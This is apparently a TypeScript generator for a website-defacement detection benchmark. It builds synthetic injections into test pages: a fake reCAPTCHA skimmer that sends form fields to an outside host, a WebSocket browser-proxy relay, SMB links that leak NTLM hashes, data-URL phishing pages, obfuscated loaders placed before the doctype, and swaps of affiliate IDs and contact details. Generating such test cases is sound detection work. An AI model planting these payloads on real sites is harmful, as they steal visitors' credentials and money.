/**
 * Fresh11 defacement classes: written after round 12 (after fresh10), by
 * someone who does not read the engines, from public descriptions of real
 * defacements, skimmers, loaders and scams. New techniques: credentials
 * leaked to an SMB share through file:// references (Dragonfly watering
 * holes), an OpenSearch description that adds the attacker's search engine,
 * affiliate ids swapped inside the site's own links, a contact card (vCard)
 * that saves other numbers under the site's name, identifiers interleaved
 * with hidden decoy characters, data:text/html phishing links, a fake
 * reCAPTCHA box that skims the form it sits in, visitors' browsers made into
 * proxy nodes, infections prepended before the doctype, loaders packed with
 * Dean Edwards' packer or javascript-obfuscator string arrays, a site wiped
 * back to a fresh WordPress install, an ad whose close button is the link,
 * a map link to another business listing, look-alike payment-provider card
 * frames, a Google One Tap prompt under the attacker's client id, PHP
 * warnings left by a broken backdoor, and identifiers swapped into new
 * payment formats (instant-payment aliases, Lightning addresses); and scam
 * and spam verticals not used before (voicemail phishing, rental and
 * vehicle-escrow listings, unclaimed-luggage subscription traps, satta matka,
 * counterfeit banknotes, funeral live streams, obituary spam, fixed matches,
 * penny-stock pumps, fake 3-D Secure checks, words of the site's own text
 * turned into spam links). Each differs from every class in defacements.ts
 * and fresh-defacements.ts through fresh10-defacements.ts (not a re-wording
 * of one) and varies its templates, languages, domains, positions and sizes.
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date, and its comment says so.
 * Scored in the `fresh11` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, elAt, evil, forms, head, inside, lineAfter, resolve, scriptSpot, shown, siteOr, textRuns, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, links } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate, swapPhone } from "./locales.js"
import type { El, Range } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, slug } from "./words.js"

const fresh11 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh11", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script>${pick(rng, [() => code, () => code, () => `eval(atob("${b64(code)}"))`, () => `(new Function(atob("${b64(code)}")))()`])()}</script>`
const charsOf = (rng: Rng, chars: string, n: number) => Array.from({ length: n }, () => chars[int(rng, chars.length)]).join("")
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.com"])
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live"])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+33 6 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`,
    () => `+49 15${digits(rng, 1)} ${digits(rng, 7)}`, () => `+34 6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`, () => `+31 6 ${digits(rng, 8)}`, () => `+351 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
    () => `+39 3${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+237 6${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+91 9${digits(rng, 4)} ${digits(rng, 5)}`
  ])()
const dateOf = (rng: Rng, page: Page) => page.site.locale.date(someDate(rng))
const ipv4 = (rng: Rng) => `${pick(rng, [5, 31, 37, 45, 46, 62, 77, 79, 80, 82, 89, 91, 92, 93, 94, 95, 141, 146, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217])}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`

/** Occurrences of `needle` in the shown body text, each with the link it sits in (if any). */
const hitsOf = (page: Page, needle: string): Array<{ readonly range: Range; readonly link: El | undefined }> => {
  const out: Array<{ range: Range; link: El | undefined }> = []
  if (needle.length === 0) return out
  for (const run of page.spots.texts) {
    const parent = elAt(page, run.parent)
    if (parent !== undefined && (!parent.shown || parent.inert)) continue
    const raw = page.html.slice(run.start, run.end)
    let link: El | undefined
    for (let e = parent; e !== undefined; e = elAt(page, e.parent)) if (e.name === "a") { link = e; break }
    for (let i = raw.indexOf(needle); i !== -1; i = raw.indexOf(needle, i + needle.length)) {
      out.push({ range: { start: run.start + i, end: run.start + i + needle.length }, link })
    }
  }
  return out
}

/** Splices writing `render(new)` over every shown occurrence of each `[old, new]` pair (first pair wins on overlap). */
const swapShown = (page: Page, pairs: ReadonlyArray<readonly [string, string]>, render: (s: string) => string): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [old, nu] of pairs) {
    for (const h of hitsOf(page, old)) {
      if (taken.some((t) => h.range.start < t.end && h.range.end > t.start)) continue
      taken.push(h.range)
      out.push(replace(h.range, render(nu)))
    }
  }
  return out
}

/** Links of the page with their resolved URL. */
const resolvedLinks = (page: Page) =>
  attrTargets(page, links(page), "href").flatMap((t) => {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    return u === null ? [] : [{ ...t, u }]
  })
const isOwn = (page: Page, u: URL) => u.hostname === page.site.domain || u.hostname.endsWith("." + page.site.domain)

// Credential theft through SMB references, recalled from memory of US-CERT alert TA18-074A (March 2018) on Russian government actors targeting the energy sector ("Dragonfly 2.0", also described by Symantec in September 2017): trade-publication and supplier websites were altered to carry a file:// reference to an image on the attackers' SMB server, so that Windows browsers sent the visitor's user name and NTLM password hash when fetching it; and of Cylance's "Redirect to SMB" write-up (April 2015). Here the page gains a tiny image, a stylesheet rule or document links that point at such a share.
const smbCredentialLeak = fresh11("image, style or links pointing at a file:// SMB share on another host (NTLM hash harvesting)", (page, rng) => {
  const host = chance(rng, 0.7) ? ipv4(rng) : randomDomain(rng)
  const share = pick(rng, ["share", "img", "pub", "docs", "public", "files", "scan", "c$"])
  const file = (ext: string) => `file://${host}/${share}/${pick(rng, ["logo", "header", "pixel", "bg", "spacer", "banner", alnum(rng, 6)])}.${ext}`
  switch (int(rng, 4)) {
    case 0: {
      const docs = resolvedLinks(page).filter(({ u }) => /\.(pdf|docx?|xlsx?|pptx?|zip)$/i.test(u.pathname) || /download|document|report|brochure|form/i.test(u.pathname))
      const chosen = docs.length > 0 ? sample(rng, docs, between(rng, 1, 3)) : sample(rng, resolvedLinks(page), between(rng, 1, 2))
      if (chosen.length > 0) {
        const name = (u: URL) => (u.pathname.split("/").pop() ?? "").replace(/[^\w.-]/g, "") || "document"
        return { splices: chosen.map(({ value, u }) => replace(value, esc(`file://${host}/${share}/${name(u)}${/\.\w+$/.test(u.pathname) ? "" : ".pdf"}`))) }
      }
      break
    }
    case 1:
      return splices(insert(head(page), `<style>${pick(rng, ["body", "header", ".logo", "html"])}{background-image:url("${file(pick(rng, ["png", "jpg", "gif"]))}")}</style>`))
    default:
      break
  }
  const img = pick(rng, [
    `<img src="${file(pick(rng, ["png", "jpg", "gif"]))}" width="1" height="1" alt="">`,
    `<img src="${file("png")}" style="${pick(rng, ["display:none", "position:absolute;left:-999px", "width:1px;height:1px;opacity:0"])}" alt="">`,
    `<img src="${file("jpg")}" alt="" width="${between(rng, 1, 3)}" height="${between(rng, 1, 3)}" border="0">`
  ])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), img))
})

const addSearchWords: Record<Lang, (b: string) => string> = {
  en: (b) => `Add ${b} search to your browser`, fr: (b) => `Ajouter la recherche ${b} à votre navigateur`, de: (b) => `${b}-Suche zum Browser hinzufügen`,
  es: (b) => `Añadir la búsqueda de ${b} a su navegador`, nl: (b) => `${b}-zoeken toevoegen aan uw browser`, pt: (b) => `Adicionar a pesquisa ${b} ao seu navegador`,
  it: (b) => `Aggiungi la ricerca ${b} al tuo browser`
}

// Search hijacking through OpenSearch, recalled from memory of the OpenSearch 1.1 autodiscovery convention (A9.com, about 2005–2006), by which a link rel="search" in a page's head offers the browser a search engine (Chrome adds such engines on its own), and of Microsoft's and Malwarebytes' descriptions of browser-hijacker adware (about 2012–2016) that sets visitors' search to a monetised results feed. The writer knows of no report of this exact injection: the page's head gains an OpenSearch description served from another host, named after the site, and sometimes a link offering to add it.
const openSearchHijack = fresh11("OpenSearch description from another host, named after the site, added to the head (search hijack)", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng), `search.${randomDomain(rng)}`])
  const osd = `https://${host}/${pick(rng, ["opensearch.xml", "osd.xml", "search/" + alnum(rng, 6) + ".xml", "os.php?c=" + alnum(rng, 8)])}`
  const title = pick(rng, [brandName(page), `${brandName(page)} Search`, page.site.host, `${brandName(page)} – ${pick(rng, ["Web", "Suche", "Recherche", "Search"])}`])
  const out: Array<Splice> = [insert(head(page), `<link rel="search" type="application/opensearchdescription+xml" title="${esc(title)}" href="${esc(osd)}">`)]
  if (chance(rng, 0.35)) {
    out.push(insert(pick(rng, [top(page), bottom(page)]), `<p class="${pick(rng, ["search-tip", "add-search", "browser-tip"])}"><a href="${esc(osd)}" onclick="try{window.external.AddSearchProvider(this.href);return false}catch(e){}">🔍 ${esc(siteOr(rng, page, addSearchWords)(brandName(page)))}</a></p>`))
  }
  return { splices: out }
})

const affiliateParams = /^(tag|aid|affid|aff_id|affiliate_id|affiliate|ref|refid|campid|clickref|awinaffid|partner|partnerid|pid|irclickid|associate_id)$/i
const merchantHosts: ReadonlyArray<readonly [RegExp, (rng: Rng) => readonly [string, string]]> = [
  [/(^|\.)amazon\./, (rng) => ["tag", `${alnum(rng, between(rng, 5, 9))}-${pick(rng, ["20", "21"])}`]],
  [/(^|\.)booking\.com$/, (rng) => ["aid", digits(rng, 7)]],
  [/(^|\.)ebay\./, (rng) => ["campid", `53${digits(rng, 8)}`]],
  [/(^|\.)aliexpress\./, (rng) => ["aff_fcid", hex(rng, 32)]],
  [/(^|\.)etsy\.com$/, (rng) => ["awinaffid", digits(rng, 6)]]
]
/** `raw` (an href as written) with `k=v` added before its fragment. */
const withParam = (raw: string, k: string, v: string) => {
  const hash = raw.indexOf("#")
  const [base, frag] = hash === -1 ? [raw, ""] : [raw.slice(0, hash), raw.slice(hash)]
  return `${base}${base.includes("?") ? (/[?&]$/.test(base) ? "" : "&amp;") : "?"}${k}=${v}${frag}`
}

// Affiliate-id hijacking, recalled from memory of MegaLag's video investigation (December 2024) of the Honey browser extension, which replaced creators' affiliate links and cookies with its own at checkout, of the ad-injector and "affiliate hijack" extensions in Google's and UC Santa Barbara's study of ad injection (2015), and, with uncertain details, of clean-up notes on WordPress infections that rewrite the tag= of every Amazon link in posts: the site's own affiliate or referral ids, in the links it already has, are replaced by the attacker's; where there are none, the attacker's id is added to merchant links, or to the site's own links as a referral code.
const affiliateIdSwap = fresh11("affiliate and referral ids in the site's own links replaced or added with the attacker's", (page, rng) => {
  const mine = alnum(rng, between(rng, 6, 10))
  const out: Array<Splice> = []
  const all = resolvedLinks(page)
  for (const t of all) {
    const raw = page.html.slice(t.value.start, t.value.end)
    const keys = [...t.u.searchParams.keys()].filter((k) => affiliateParams.test(k))
    const merchant = merchantHosts.find(([re]) => re.test(t.u.hostname))
    if (keys.length > 0) {
      const next = raw.replace(/([?&;])([A-Za-z_]+)=([^&#"]*)/g, (m, sep: string, k: string) => (affiliateParams.test(k) ? `${sep}${k}=${k.toLowerCase() === "tag" ? `${mine}-20` : mine}` : m))
      if (next !== raw) out.push(replace(t.value, next))
    } else if (merchant !== undefined) {
      const [k, v] = merchant[1](rng)
      out.push(replace(t.value, withParam(raw, k, v)))
    }
  }
  if (out.length === 0) {
    const own = all.filter(({ u }) => isOwn(page, u))
    const pool = own.length > 0 ? own : all
    const param = pick(rng, ["ref", "aff", "affiliate", "wpam_id", "ref_id", "a_aid"])
    for (const t of sample(rng, pool, Math.max(1, Math.ceil(pool.length * pick(rng, [0.15, 0.4, 1]))))) {
      out.push(replace(t.value, withParam(page.html.slice(t.value.start, t.value.end), param, mine)))
    }
  }
  if (out.length === 0) {
    const item = pick(rng, ["B0" + upper(rng, 8), "B07" + upper(rng, 7)])
    out.push(insert(anySlot(rng, page.spots), `<p><a href="https://www.amazon.${pick(rng, ["com", "co.uk", "de", "fr", "es", "it", "nl"])}/dp/${item}?tag=${mine}-21" rel="nofollow">${esc(brandName(page))} ${pick(rng, ["— recommended", "★★★★★", "on Amazon"])}</a></p>`))
  }
  return { splices: out }
})

const vcardWords: Record<Lang, string> = {
  en: "Save our contact details to your phone", fr: "Enregistrer nos coordonnées dans votre téléphone", de: "Unsere Kontaktdaten im Telefon speichern",
  es: "Guarde nuestros datos de contacto en su móvil", nl: "Sla onze contactgegevens op in uw telefoon", pt: "Salve nossos contatos no seu celular",
  it: "Salva i nostri contatti nel telefono"
}

// Contact cards that save other numbers under a trusted name, recalled from memory with uncertain details of UK Finance's "Take Five" and banks' warnings (about 2019–2023) that fraudsters get victims to store a number under the bank's name so that later calls appear to come from the bank, and of the vCard format (RFC 6350) that phones import with one tap: the page gains a "save our contact details" link whose card carries the site's name with another phone number and e-mail address, while the numbers shown on the page stay as they were.
const vcardContact = fresh11("'save our contact details' vCard that files another phone number and e-mail under the site's name", (page, rng) => {
  const next = swapPhone(page.site.locale, page.ids.phone, rng)
  const [local] = page.ids.email.split("@")
  const mail = pick(rng, [`${local}@${brandLookalike(rng, page.site.brand)}`, `${page.site.brand.replace(/-/g, "")}.${pick(rng, ["service", "office", "help"])}@${freeMail(rng)}`])
  const name = brandName(page)
  const card = [
    "BEGIN:VCARD", pick(rng, ["VERSION:3.0", "VERSION:4.0"]), `FN:${name}`, `ORG:${name}`,
    `TEL;TYPE=${pick(rng, ["WORK,VOICE", "work", "MAIN"])}:${chance(rng, 0.5) ? next.intl : next.tel}`,
    ...(chance(rng, 0.5) ? [`TEL;TYPE=CELL:${intlMobile(rng)}`] : []),
    `EMAIL;TYPE=INTERNET:${mail}`, `URL:${page.site.url}`, "END:VCARD"
  ].join("\r\n")
  const href = pick(rng, [
    () => `data:text/vcard;charset=utf-8,${encodeURIComponent(card)}`,
    () => `data:text/x-vcard;base64,${b64(card)}`,
    () => `https://${pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])}/${pick(rng, ["contact", "vcard", "c"])}/${slug(page.site.brand)}.vcf`
  ])()
  const link = `<a href="${esc(href)}" download="${esc(slug(page.site.brand) || "contact")}.vcf">📇 ${esc(siteOr(rng, page, vcardWords))}</a>`
  const line = lineAfter(page, page.ids.phone.intl) ?? lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.national)
  return splices(line !== null && chance(rng, 0.8) ? insert(line.at, line.wrap(link)) : insert(anySlot(rng, page.spots), `<p class="${pick(rng, ["vcard", "save-contact", "contact-card"])}">${link}</p>`))
})

// Identifiers broken up by hidden decoy characters, recalled from memory of Spencer Mortensen's comparison of e-mail obfuscation methods (his blog, "Email obfuscation: what works in 20xx?", updated since about 2012), where junk hidden inside an address (a display:none span) stops harvesters while people still read it, and of the same trick on classified sites against phone-number scraping: here the site's phone number (or e-mail address) is replaced by another one whose characters are interleaved with hidden decoy characters, so the page's text holds neither the old value nor the new one while the screen shows the new one; dialling and mailto links go to it.
const decoyIdentifier = fresh11("phone number or e-mail replaced by another interleaved with hidden decoy characters", (page, rng) => {
  const cls = `${pick(rng, ["d", "x", "h", "n", "z"])}${alnum(rng, 4)}`
  const how = int(rng, 4)
  const hid = (j: string) => (how === 0 ? `<span style="display:none">${j}</span>` : how === 1 ? `<span class="${cls}">${j}</span>` : how === 2 ? `<i hidden>${j}</i>` : `<span style="font-size:0">${j}</span>`)
  const junk = () => pick(rng, [() => digits(rng, 1), () => digits(rng, between(rng, 2, 3)), () => alnum(rng, 2), () => "null", () => "-", () => "."])()
  const decoy = (v: string) => [...v].map((c) => esc(c) + (chance(rng, 0.45) ? hid(junk()) : "")).join("")
  const out: Array<Splice> = how === 1 ? [insert(head(page), `<style>.${cls}{display:none}</style>`)] : []
  const ph = page.ids.phone
  if (chance(rng, 0.65)) {
    const next = swapPhone(page.site.locale, ph, rng)
    const swaps = swapShown(page, [[ph.national, next.national], [ph.intl, next.intl]], decoy)
    out.push(...swaps)
    for (const t of attrTargets(page, shown(page, "a", (e) => (e.attribs.href ?? "").replace(/\s/g, "").includes(ph.tel)), "href")) out.push(replace(t.value, `tel:${next.tel}`))
    if (swaps.length === 0) out.push(insert(anySlot(rng, page.spots), `<p>${esc(page.site.words.phone)}: ${decoy(next.national)}</p>`))
  } else {
    const email = page.ids.email
    const [local] = email.split("@")
    const next = pick(rng, [`${local}@${brandLookalike(rng, page.site.brand)}`, `${page.site.brand.replace(/-/g, "")}.${pick(rng, ["info", "office", "team"])}@${freeMail(rng)}`])
    const swaps = swapShown(page, [[email, next]], decoy)
    out.push(...swaps)
    for (const t of attrTargets(page, shown(page, "a", (e) => (e.attribs.href ?? "").trim().toLowerCase().startsWith(`mailto:${email.toLowerCase()}`)), "href")) out.push(replace(t.value, esc(`mailto:${next}`)))
    if (swaps.length === 0) out.push(insert(anySlot(rng, page.spots), `<p>${esc(page.site.words.email)}: ${decoy(next)}</p>`))
  }
  return { splices: out }
})

const dataSignWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Sign in", "E-mail address", "Password", "Your session has expired. Please sign in again to continue."],
  fr: ["Se connecter", "Adresse e-mail", "Mot de passe", "Votre session a expiré. Veuillez vous reconnecter pour continuer."],
  de: ["Anmelden", "E-Mail-Adresse", "Passwort", "Ihre Sitzung ist abgelaufen. Bitte melden Sie sich erneut an."],
  es: ["Iniciar sesión", "Correo electrónico", "Contraseña", "Su sesión ha caducado. Inicie sesión de nuevo para continuar."],
  nl: ["Inloggen", "E-mailadres", "Wachtwoord", "Uw sessie is verlopen. Log opnieuw in om verder te gaan."],
  pt: ["Entrar", "E-mail", "Senha", "Sua sessão expirou. Entre novamente para continuar."],
  it: ["Accedi", "Indirizzo e-mail", "Password", "La sessione è scaduta. Accedi di nuovo per continuare."]
}

// Phishing pages carried in data: URLs, recalled from memory of Wordfence's warning (Mark Maunder, January 2017) about a Gmail phishing campaign whose link was a data:text/html URL that began with "https://accounts.google.com/..." followed by whitespace, so the address bar seemed to show Google, and of Mozilla's and Google's decision (Firefox 59 and Chrome 60, 2017–2018) to block top-level navigation to data: URLs because of such phishing (in-app browsers and older ones still follow them): the site's sign-in, account or donation links, or a few others, now open a sign-in page written entirely inside the link.
const dataUrlLinks = fresh11("site's sign-in or account links pointed at a phishing page written inside a data:text/html URL", (page, rng) => {
  const [signIn, mail, pw, expired] = siteOr(rng, page, dataSignWords)
  const post = `https://${pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])}/${pick(rng, ["login.php", "p.php", "auth", "next.php", "save"])}`
  const doc = `<!doctype html><html><head><meta charset="utf-8"><title>${esc(brandName(page))} - ${esc(signIn)}</title><meta name="viewport" content="width=device-width"></head><body style="font-family:Arial,sans-serif;background:#f2f2f2"><div style="max-width:360px;margin:12vh auto;background:#fff;padding:24px;border-radius:6px"><h2>${esc(brandName(page))}</h2><p>${esc(expired)}</p><form method="post" action="${post}"><p><input type="email" name="email" placeholder="${esc(mail)}" style="width:100%;padding:8px"></p><p><input type="password" name="password" placeholder="${esc(pw)}" style="width:100%;padding:8px"></p><button type="submit" style="width:100%;padding:10px;background:#1a73e8;color:#fff;border:0">${esc(signIn)}</button></form></div></body></html>`
  const loader = `<script src="https://${randomDomain(rng)}/${pick(rng, ["p.js", "l.js", alnum(rng, 6) + ".js"])}"></script>`
  const href = () => pick(rng, [
    () => `data:text/html;base64,${b64(doc)}`,
    () => `data:text/html;charset=utf-8,${encodeURIComponent(doc)}`,
    () => `data:text/html,https://${page.site.host}/${pick(rng, ["login", "account", "signin"])}${" ".repeat(between(rng, 60, 200))}${loader}`,
    () => `data:text/html;base64,${b64(`<body style="margin:0"><iframe src="${post.replace(/\/[^/]*$/, "/")}" style="border:0;width:100vw;height:100vh"></iframe></body>`)}`
  ])()
  const all = attrTargets(page, links(page), "href")
  const keyed = all.filter((t) => /log.?in|sign|account|member|\/my|webmail|mail|donat|pay|cart|checkout|konto|compte|cuenta|conta|accedi/i.test(page.html.slice(t.value.start, t.value.end)))
  const chosen = keyed.length > 0 && chance(rng, 0.75) ? sample(rng, keyed, between(rng, 1, 3)) : sample(rng, all, between(rng, 1, 2))
  const out: Array<Splice> = chosen.map((t) => replace(t.value, esc(href())))
  if (out.length === 0) out.push(insert(noticeSpot(rng, page), `<p><a href="${esc(href())}">${esc(signIn)}</a></p>`))
  return { splices: out }
})

const robotWords: Record<Lang, string> = {
  en: "I'm not a robot", fr: "Je ne suis pas un robot", de: "Ich bin kein Roboter.", es: "No soy un robot", nl: "Ik ben geen robot", pt: "Não sou um robô", it: "Non sono un robot"
}

// A fake CAPTCHA that skims the form it protects, recalled from memory with uncertain details of Sucuri's and Malwarebytes' write-ups (about 2020–2022) on Magento and WordPress skimmers dressed as Google reCAPTCHA (a "I'm not a robot" box drawn in HTML, sometimes loaded from a look-alike recaptcha host) whose click handler reads the checkout or login fields and sends them away: the box is put inside the site's own form (or near the top when it has none), in the visitor's language, as reCAPTCHA localises it.
const fakeRecaptcha = fresh11("fake 'I'm not a robot' reCAPTCHA box in the site's form that sends the form's fields to another host", (page, rng) => {
  const id = `${pick(rng, ["rc", "g-rc", "captcha", "recaptcha-anchor"])}-${alnum(rng, 5)}`
  const sink = `https://${pick(rng, [libLookalike(rng), `recaptcha-${alnum(rng, 4)}.${tld(rng)}`, `www.google.com.${alnum(rng, 5)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["recaptcha/api2/userverify", "verify", "c.php", "api/v2/anchor"])}`
  const send = pick(rng, [
    `navigator.sendBeacon(${js(sink)},JSON.stringify(o))`,
    `new Image().src=${js(sink)}+"?k="+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))))`,
    `fetch(${js(sink)},{method:"POST",mode:"no-cors",body:JSON.stringify(o)})`
  ])
  const box = `<div class="g-recaptcha" style="width:300px;height:74px;box-sizing:border-box;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;box-shadow:0 0 4px 1px rgba(0,0,0,.08);display:flex;align-items:center;padding:0 12px;margin:10px 0;font-family:Roboto,helvetica,arial,sans-serif;font-size:14px;color:#000"><span id="${id}" role="checkbox" aria-checked="false" tabindex="0" style="width:24px;height:24px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;margin-right:12px;cursor:pointer;display:inline-block"></span>${esc(siteOr(rng, page, robotWords))}<span style="margin-left:auto;text-align:center;font-size:10px;color:#555"><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" width="32" height="32" alt=""><br>reCAPTCHA<br><small>Privacy - Terms</small></span></div>`
  const code = `(function(){var b=document.getElementById("${id}");if(!b)return;b.addEventListener("click",function(){var f=b.closest("form"),o={h:location.host};[].forEach.call((f||document).querySelectorAll("input,select,textarea"),function(i){if(i.value&&!/^(hidden|submit|button)$/.test(i.type))o[i.name||i.id||i.type]=i.value});${send};b.setAttribute("aria-checked","true");b.style.background="#1a73e8"})})();`
  const script = chance(rng, 0.3) ? `<script src="https://${pick(rng, [`www.recaptcha-api.${tld(rng)}`, `recaptcha.${randomDomain(rng)}`, `www.gstatic-cdn.${tld(rng)}`])}/recaptcha/api.js?render=${alnum(rng, 12)}" async defer></script>` : wrapScript(rng, code)
  const f = forms(page)[0]
  if (f !== undefined && chance(rng, 0.85)) return splices(insert(f.closeTag !== null ? f.closeTag.start : f.openEnd, box + script))
  return splices(insert(noticeSpot(rng, page), box + script))
})

// Visitors' browsers made into proxies, recalled from memory with uncertain details of 2024 reports (among them c/side's and Sucuri's) on hacked WordPress sites whose injected script opens a WebSocket to the attackers' server and fetches whatever URLs it is told to, relaying the answers, so the visitors' connections serve as free residential proxies; and of Cisco Talos's report on "proxyware" (2021), bandwidth-sharing clients abused to sell victims' connections. The page gains the relay script (inline, in a worker, or as an "SDK" file from another host).
const browserProxy = fresh11("script turning visitors' browsers into proxy nodes that fetch URLs sent over a WebSocket", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), `${pick(rng, ["node", "p2p", "edge", "relay", "mesh"])}${digits(rng, 2)}.${randomDomain(rng)}`])
  const ws = `wss://${host}/${pick(rng, ["ws", "socket", "p2p", "node", "tunnel"])}?k=${alnum(rng, 16)}`
  const core = `var w=new WebSocket(${js(ws)});w.onmessage=function(m){var q=JSON.parse(m.data);fetch(q.u,{method:q.m||"GET",headers:q.h||{},body:q.b||undefined,credentials:"omit",redirect:"manual"}).then(function(r){return r.text().then(function(t){w.send(JSON.stringify({i:q.i,s:r.status,b:t}))})}).catch(function(e){w.send(JSON.stringify({i:q.i,e:String(e)}))})};`
  const tag = pick(rng, [
    () => wrapScript(rng, `(function(){if(window.__nx)return;window.__nx=1;${core}})();`),
    () => `<script>(function(){var c=${js(core)};try{new Worker(URL.createObjectURL(new Blob([c],{type:"text/javascript"})))}catch(e){(0,eval)(c)}})();</script>`,
    () => `<script src="https://${host}/${pick(rng, ["sdk/peer.min.js", "js/node.js", "share.js", "p2p/" + alnum(rng, 6) + ".js"])}" data-key="${alnum(rng, 24)}" async></script>`
  ])()
  return splices(insert(scriptSpot(rng, page), tag))
})

// Infections prepended to every file, recalled from memory of the Gumblar and Martuz waves (2009) and other mass injections through stolen FTP passwords described by Unmask Parasites (Denis Sinegubko), ScanSafe and Sophos (2009–2010): a script on the attackers' side walked the server's files and wrote a hidden iframe or a document.write(unescape(...)) loader at the very top of every .html and .php file, before the doctype and the html tag (which also drops the page into quirks mode).
const beforeDoctype = fresh11("hidden iframe or script loader written before the doctype, at the very top of the file (mass FTP infection)", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), ipv4(rng), brandLookalike(rng, page.site.brand)])
  const url = `${pick(rng, ["http://", "https://", "//"])}${host}${pick(rng, [":8080", "", "", ""])}/${pick(rng, ["in.cgi?" + between(rng, 2, 19), "ss/go.php?sid=" + between(rng, 1, 9), "js/" + alnum(rng, 5) + ".js", "cgi-bin/index.cgi", alnum(rng, 8) + ".php", "jquery.min.php"])}`
  const tag = `<script src="${url}"></script>`
  const upperHex = chance(rng, 0.5)
  const pct = [...tag].map((c) => { const h = c.charCodeAt(0).toString(16).padStart(2, "0"); return `%${upperHex ? h.toUpperCase() : h}` }).join("")
  const payload = pick(rng, [
    () => `<iframe src="${url}" width="${between(rng, 0, 2)}" height="${between(rng, 0, 2)}" frameborder="0" style="${pick(rng, ["visibility:hidden", "display:none", "position:absolute;left:-500px;top:0"])}"></iframe>`,
    () => `<script type="text/javascript">document.write(unescape("${pct}"));</script>`,
    () => `<script>document.write('<s'+'cript type="text/javascript" src="${url}"></s'+'cript>');</script>`,
    () => `<script type="text/javascript" src="${url}"></script>`,
    () => `<script language="javascript">eval(unescape("${[...`document.write('<iframe src="${url}" width=1 height=1 frameborder=0></iframe>')`].map((c) => "%" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")}"))</script>`
  ])()
  return splices(insert(0, payload + pick(rng, ["", "\n", "\r\n"])))
})

const hexLit = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")

/** `build`'s code with every string it asks `S` for moved into a rotated, encoded string array (javascript-obfuscator style). */
const obfuscate = (rng: Rng, build: (S: (s: string) => string, v: () => string) => string): string => {
  const strings: Array<string> = []
  const names = new Set<string>()
  const v = () => { for (;;) { const n = `_0x${hex(rng, pick(rng, [4, 5, 6]))}`; if (!names.has(n)) { names.add(n); return n } } }
  const arr = v()
  const fn = v()
  const off = between(rng, 0, 0x1ff)
  const S = (str: string) => {
    let i = strings.indexOf(str)
    if (i === -1) { strings.push(str); i = strings.length - 1 }
    return `${fn}('0x${(i + off).toString(16)}')`
  }
  const body = build(S, v)
  const enc = pick(rng, ["b64", "hex", "plain"] as const)
  const lit = (str: string) => (enc === "b64" ? `'${b64(str)}'` : enc === "hex" ? `'${hexLit(str)}'` : js(str))
  const n = strings.length
  const rot = between(rng, 0x60, 0x1ff)
  const r = rot % n
  const stored = [...strings.slice(n - r), ...strings.slice(0, n - r)]
  const [a, b, c, d] = [v(), v(), v(), v()]
  return `var ${arr}=[${stored.map(lit).join(",")}];(function(${a},${b}){var ${c}=function(${d}){while(--${d}){${a}['push'](${a}['shift']());}};${c}(++${b});}(${arr},0x${rot.toString(16)}));var ${fn}=function(${a},${b}){${a}=${a}-0x${off.toString(16)};var ${c}=${arr}[${a}];${enc === "b64" ? `${c}=atob(${c});` : ""}return ${c};};${body}`
}

